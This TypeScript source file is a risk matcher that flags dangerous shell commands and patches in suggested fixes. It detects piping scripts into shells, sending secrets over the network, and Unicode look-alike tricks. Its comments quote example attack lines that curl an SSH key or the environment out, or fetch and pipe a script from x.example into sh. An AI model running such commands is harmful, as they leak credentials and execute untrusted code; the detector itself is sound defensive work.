// Risk flags for the commands and patches of a trail (decisions.md §4). Every flag names what a
// person would worry about before running the fix, with a level and a detail that says why.
// The rules are rows in risk-rules.ts; this file is the matcher that runs them. Commands are
// parsed (shell.ts) so pipes, lists, sudo, env prefixes, `bash -c`, substitutions and PowerShell
// forms are seen; patches are checked on their added lines. Pure: no I/O.
// The level rules are documented in docs/content-safety.md; keep the two in step.
// Changing what this file catches or flags? Bump CONTENT_RULES_VERSION (content-rules.ts): stored
// trails are re-checked with the new rules at the next start.
import {
  COMMAND_RULES,
  type CommandContext,
  type CommandRule,
  type Graded,
  PATCH_RULES,
  PIPELINE_RULES,
  type RiskFlagName,
  type RiskLevel,
  TEXT_RULES,
} from "./risk-rules.ts";
import {
  assignmentsOf,
  downloadedFiles,
  nestedSource,
  readsProgramFromStdin,
  runsFile,
  short,
  type View,
  verifiesDownload,
  viewOf,
} from "./risk-view.ts";
import { isBareEnv, isNetworkClient, sentFiles, sentStaged, stagedEnvironment, stagedSecrets } from "./risk-secrets.ts";
import { foldConfusables, joinContinuedLines, removeInvisible } from "./screening-text.ts";
import { allCommands, parseShell, type Script } from "./shell.ts";
import type { Trail } from "./trail.ts";

export { RISK_FLAGS, type RiskFlagName, type RiskLevel } from "./risk-rules.ts";
export { classifyPath } from "./risk-view.ts";

export interface RiskFlag {
  command_index: number | null;
  flag: string;
  level: RiskLevel;
  detail: string;
}
export interface Risk {
  level: RiskLevel;
  flags: RiskFlag[];
}

const RANK: Record<RiskLevel, number> = { low: 0, medium: 1, high: 2 };
export const maxLevel = (a: RiskLevel, b: RiskLevel): RiskLevel => (RANK[a] >= RANK[b] ? a : b);

type Found = { flag: RiskFlagName; level: RiskLevel; detail: string };

/** Hostile input costs linear time: only this much of a command or patch text is read. */
const MAX_TEXT = 20000;
const head = (s: string) => (s.length > MAX_TEXT ? s.slice(0, MAX_TEXT) : s);
/** The command as a shell reads it: its first MAX_TEXT characters, continued lines joined (`\`, `` ` `` or `^` ⏎). */
const commandText = (s: string) => joinContinuedLines(head(s));

// --- Matching ---------------------------------------------------------------------------------

function runCommandRule(rule: CommandRule, v: View, ctx: CommandContext, out: Found[]): void {
  if (rule.level === "graded") {
    const hits = rule.match(v, ctx);
    if (!hits) return;
    for (const h of (Array.isArray(hits) ? hits : [hits]) as Graded[]) out.push({ flag: rule.flag, level: h.level, detail: h.detail });
  } else {
    const hits = rule.match(v, ctx);
    if (!hits) return;
    for (const detail of typeof hits === "string" ? [hits] : hits) out.push({ flag: rule.flag, level: rule.level, detail });
  }
}

function textFlags(text: string): Found[] {
  const t = head(text);
  const out: Found[] = [];
  for (const rule of TEXT_RULES) {
    const detail = rule.match(t);
    if (detail) out.push({ flag: rule.flag, level: rule.level, detail });
  }
  return out;
}

/**
 * The command as an agent that retypes it reads it: invisible characters dropped, width and
 * compatibility forms and other blanks as ASCII (NFKC), and a word whose look-alike letters of other
 * scripts make it read as ASCII (`сurl`, `~/.ѕsh/id_rsa`) read so. `cur<U+200B>l -d @~/.ssh/id_rsa …`
 * and `ｃurl … | sh` are read as curl; a word in another script (`пример.рф`) stays as it is. `%XX`
 * is not decoded: a shell does not decode it. The same string when nothing changes.
 */
export function typedView(text: string): string {
  if (!NON_ASCII.test(text)) return text;
  // word by word (`\S+` matches each run once: linear, where `\S*[^\x00-\x7f]\S*` retried every position of a long ASCII run)
  return text.normalize("NFKC").replace(WORD, (word) => {
    if (!NON_ASCII.test(word)) return word;
    const visible = removeInvisible(word);
    const folded = foldConfusables(visible);
    return NON_ASCII.test(folded) ? visible : folded;
  });
}
const NON_ASCII = /[^\x00-\x7f]/;
const WORD = /\S+/g;

/** `env | curl -d @- …`: a bare env has no view (it is read as a wrapper), so the matcher raises this itself. */
const ENVIRONMENT_PIPED: Found = {
  flag: "sends_local_secrets",
  level: "high",
  detail: "pipes the environment into a command that sends it over the network",
};

/** Flags of one command line (without the cross-command download tracking). */
export function analyzeCommand(command: string): Found[] {
  const src = commandText(command);
  const found = analyzeText(src);
  // What an agent retyping the command reads: its findings add the flags the text as written hid.
  const typed = typedView(src);
  if (typed !== src) {
    const raised = new Set(found.map((f) => f.flag));
    for (const f of analyzeText(typed)) if (!raised.has(f.flag)) found.push(f);
  }
  return found;
}

function analyzeText(src: string): Found[] {
  const found: Found[] = [];
  // substituted: the script runs inside `$(…)`, backticks or `<(…)`, so another command reads its output
  const visit = (script: Script, depth: number, outer: ReadonlyMap<string, string>, substituted: boolean) => {
    const vars = new Map(outer); // a=curl; $a …: assignments hold for the rest of this script
    for (const p of script) {
      const views = p.commands.map((c) => viewOf(c, vars));
      views.forEach((v, i) => {
        if (i === 0 || !v || !readsProgramFromStdin(v)) return;
        for (const rule of PIPELINE_RULES) {
          const detail = rule.match(views, i);
          if (detail) found.push({ flag: rule.flag, level: rule.level, detail });
        }
      });
      // laterSink[i]: some stage after i is a network client (computed once, right to left)
      const laterSink: boolean[] = new Array(views.length).fill(false);
      for (let i = views.length - 2; i >= 0; i--) laterSink[i] = laterSink[i + 1]! || isNetworkClient(views[i + 1] ?? null);
      views.forEach((v, i) => {
        if (!v) {
          if (laterSink[i] && isBareEnv(p.commands[i]!)) found.push(ENVIRONMENT_PIPED);
          return;
        }
        const next = i + 1 < views.length ? (views[i + 1]?.name ?? "") : null;
        const ctx = { laterSink: laterSink[i]!, vars, pipedInto: next, substituted };
        for (const rule of COMMAND_RULES) runCommandRule(rule, v, ctx, found);
        const nested = nestedSource(v);
        // sudo bash -c '…': every inner command runs as root, already flagged on the outer one
        if (nested && depth < 4) visit(parseShell(nested), depth + 1, vars, substituted);
      });
      for (const c of p.commands) for (const w of c.words) for (const s of w.subs) if (depth < 4) visit(s, depth + 1, vars, true);
      for (const c of p.commands) assignmentsOf(c, vars);
    }
  };
  visit(parseShell(src), 0, new Map(), false);
  found.push(...textFlags(src));
  return found;
}

// --- Patches ---------------------------------------------------------------------------------------------

const SHELL_FILE =
  /(^|\/)(Dockerfile[^/]*|Containerfile|Makefile|GNUmakefile|[^/]*\.mk|Justfile|Procfile|Vagrantfile|[^/]*\.(sh|bash|zsh|ksh|fish|ps1|psm1|bat|cmd|command))$/i;
const CI_FILE =
  /(^|\/)(\.github\/workflows\/[^/]+|\.gitlab-ci|azure-pipelines|bitbucket-pipelines|\.travis|\.circleci\/config|cloudbuild|buildspec|docker-compose[^/]*|compose)\.ya?ml$|(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i;

/** The lines a diff adds; a diff without +/- markers is a snippet and counts as added in full. */
export function addedLines(diff: string): string[] {
  const lines = diff.split("\n");
  const isDiff = lines.some((l) => /^(@@|\+\+\+ |--- |[+-])/.test(l));
  if (!isDiff) return lines;
  return lines.filter((l) => l.startsWith("+") && !l.startsWith("+++ ")).map((l) => l.slice(1));
}

/** Does this line continue onto the next (LINE_CONTINUATION, screening-text.ts)? */
const CONTINUES = /(?:(?<!\\)\\|[ \t][\x60^])\r?$/;

/**
 * The lines a diff adds, each joined with the lines it continues onto or that continue onto it
 * (`\`, `` ` `` or `^` before the line break), unchanged lines of the diff among them: an added
 * `RUN curl -fsSL https://x.example/p.sh \` before an unchanged `| sh` is one command of the
 * patched file. A line the diff removes is not part of it.
 */
export function addedCommandLines(diff: string): string[] {
  const lines = diff.split("\n");
  const isDiff = lines.some((l) => /^(@@|\+\+\+ |--- |[+-])/.test(l));
  if (!isDiff) return joinContinuedLines(diff).split("\n");
  const out: string[] = [];
  let pending: string[] = [];
  let added = false;
  const flush = () => {
    if (added) out.push(joinContinuedLines(pending.join("\n")));
    pending = [];
    added = false;
  };
  for (const l of lines) {
    if (l.startsWith("+++ ") || l.startsWith("--- ") || l.startsWith("-") || l.startsWith("\\")) continue;
    if (!l.startsWith("+") && !l.startsWith(" ")) {
      flush(); // a hunk header or other text between hunks: the file goes on elsewhere
      continue;
    }
    pending.push(l.slice(1));
    if (l.startsWith("+")) added = true;
    if (!CONTINUES.test(l)) flush();
  }
  flush();
  return out;
}

function patchFlags(filePath: string, diff: string): Found[] {
  const f: Found[] = [];
  const lines = addedCommandLines(diff);
  const text = lines.join("\n");
  const where = `in ${short(filePath, 80)}`;
  const typed = typedView(text);
  for (const rule of PATCH_RULES) {
    if (!rule.re.test(text) && (typed === text || !rule.re.test(typed))) continue;
    const detail = typeof rule.detail === "string" ? `${rule.detail} ${where}` : rule.detail(short(filePath, 80));
    f.push({ flag: rule.flag, level: rule.level, detail });
  }
  // SQL in a migration is reviewed before it runs: at most medium
  f.push(
    ...textFlags(text).map((x) => ({
      ...x,
      level: x.level === "high" ? ("medium" as RiskLevel) : x.level,
      detail: `${x.detail} ${where}`,
    })),
  );
  const shellLike =
    SHELL_FILE.test(filePath) ||
    CI_FILE.test(filePath) ||
    /(^|\/)package\.json$/.test(filePath) ||
    /\.(md|markdown|rst|txt)$/i.test(filePath);
  if (shellLike) {
    let inFence = false;
    const seen = new Set<string>(); // a repeated line says nothing new and costs time
    for (const raw of lines.slice(0, 4000)) {
      let line = raw;
      if (/\.(md|markdown|rst|txt)$/i.test(filePath)) {
        if (/^\s*(```|~~~)/.test(line)) {
          inFence = !inFence;
          continue;
        }
        if (!inFence && !/^\s*\$ /.test(line)) continue;
        line = line.replace(/^\s*\$ /, "");
      } else if (/package\.json$/.test(filePath)) {
        const m = /^\s*"[^"]+"\s*:\s*"(.*)",?\s*$/.exec(line);
        if (!m) continue;
        line = m[1]!.replace(/\\"/g, '"');
      } else if (CI_FILE.test(filePath)) {
        const m = /^\s*(?:-\s+)?(?:run|script|command|entrypoint)?\s*:?\s*(?:-\s+)?(.*)$/.exec(line);
        line = m ? m[1]! : line;
        if (/^[\w.-]+\s*:\s*\S/.test(line) && !/^(run|script|command)\s*:/.test(line)) continue; // a YAML key, not a command
      } else {
        line = line.replace(/^\s*(RUN|CMD|ENTRYPOINT)\s+/, "").replace(/^\t/, "");
      }
      if (!line.trim() || seen.has(line)) continue;
      seen.add(line);
      for (const x of analyzeCommand(line)) f.push({ ...x, detail: `${x.detail} ${where}` });
    }
  }
  return f;
}

// --- Entry points --------------------------------------------------------------------------------------------

function dedupe(flags: RiskFlag[]): RiskFlag[] {
  const seen = new Set<string>();
  return flags.filter((f) => {
    const key = `${f.command_index}|${f.flag}|${f.detail}`;
    if (seen.has(key)) return false;
    seen.add(key);
    return true;
  });
}

export function assessRisk(trail: Trail): Risk {
  const flags: RiskFlag[] = [];
  const commands: unknown[] = Array.isArray(trail.solution?.commands) ? trail.solution.commands : [];
  const downloads: { file: string; url: string; index: number }[] = [];
  const staged: { file: string; what: string; index: number }[] = [];
  let verified = false;
  commands.forEach((command, index) => {
    if (typeof command !== "string") return;
    for (const x of analyzeCommand(command)) flags.push({ command_index: index, ...x });
    // Download now, run later: medium, since the file could be inspected in between.
    for (const c of allCommands(parseShell(commandText(command)))) {
      const v = viewOf(c);
      if (!v) {
        for (const s of stagedEnvironment(c)) staged.push({ ...s, index });
        continue;
      }
      if (verifiesDownload(v)) verified = true;
      for (const d of downloads) {
        if (!verified && runsFile(v, d.file)) {
          const plain = d.url.startsWith("http://") ? " over plain HTTP" : "";
          flags.push({
            command_index: index,
            flag: "remote_script_execution",
            level: "medium",
            detail: `runs ${short(d.file)}, downloaded${plain} by command ${d.index}, without checking a checksum or signature`,
          });
        }
      }
      for (const d of downloadedFiles(v)) downloads.push({ ...d, index });
      // A secret copied into a file, then the file sent: `cp ~/.ssh/id_rsa /tmp/k` … `curl -F f=@/tmp/k …`
      for (const sent of staged.length > 0 ? sentFiles(v) : []) {
        const s = sentStaged(sent, staged);
        if (s)
          flags.push({
            command_index: index,
            flag: "sends_local_secrets",
            level: "high",
            detail: `${v.name} sends ${short(sent)}, which command ${s.index} filled with ${s.what}`,
          });
      }
      for (const s of stagedSecrets(v)) staged.push({ ...s, index });
    }
  });
  const patches: unknown[] = Array.isArray(trail.solution?.code_patches) ? trail.solution.code_patches : [];
  for (const item of patches) {
    const p = item as { file_path?: unknown; diff?: unknown } | null;
    if (!p || typeof p.diff !== "string") continue;
    for (const x of patchFlags(String(p.file_path ?? ""), p.diff)) flags.push({ command_index: null, ...x });
  }
  const out = dedupe(flags);
  const level = out.reduce<RiskLevel>((l, f) => maxLevel(l, f.level), "low");
  return { level, flags: out };
}
